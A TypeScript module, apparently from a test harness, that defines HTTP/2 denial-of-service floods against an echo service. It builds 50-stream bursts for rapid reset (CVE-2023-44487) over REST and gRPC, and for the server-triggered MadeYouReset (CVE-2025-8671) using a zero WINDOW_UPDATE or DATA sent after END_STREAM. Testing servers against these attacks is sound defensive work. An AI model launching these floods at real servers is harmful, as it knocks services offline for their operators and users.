import { type Attack, flood, repeated } from "./attack.ts";
import { grpcMessage, textMessage } from "./grpc-messages.ts";
import { callBlock, requestBlock } from "./header-blocks.ts";
import { dataFrame, flags, headersFrame, resetFrame, windowUpdate } from "./http2-frames.ts";
import type { RawConnection } from "./raw-connection.ts";

const get = requestBlock("GET", "/v1/echo/hi");
const post = requestBlock("POST", "/v1/echo", { "content-type": "application/json" });
const unary = callBlock("Echo");
// Half a message, so that the call is in mid-body.
const halfMessage = grpcMessage(textMessage("hi")).subarray(0, 7);

/** A new stream with each turn. */
function streams(
  make: (id: number) => readonly Buffer[],
): (connection: RawConnection) => Iterable<Buffer> {
  return (connection) => repeated(50, () => make(connection.nextStream()));
}

/** Streams that are opened to be reset: by the client, CVE-2023-44487, or by the server, CVE-2025-8671. */
export const streamResets: readonly Attack[] = [
  flood(
    "rapid reset, REST",
    streams((id) => [headersFrame(id, get, flags.endStream), resetFrame(id)]),
  ),
  flood(
    "rapid reset, gRPC in mid-body",
    streams((id) => [headersFrame(id, unary), dataFrame(id, halfMessage), resetFrame(id)]),
  ),
  flood(
    "rapid reset, gRPC without body",
    streams((id) => [headersFrame(id, unary), resetFrame(id)]),
  ),
  flood(
    "MadeYouReset, WINDOW_UPDATE of 0",
    streams((id) => [headersFrame(id, post), windowUpdate(id, 0)]),
  ),
  flood(
    "MadeYouReset, DATA after END_STREAM",
    streams((id) => [headersFrame(id, get, flags.endStream), dataFrame(id, halfMessage)]),
  ),
];
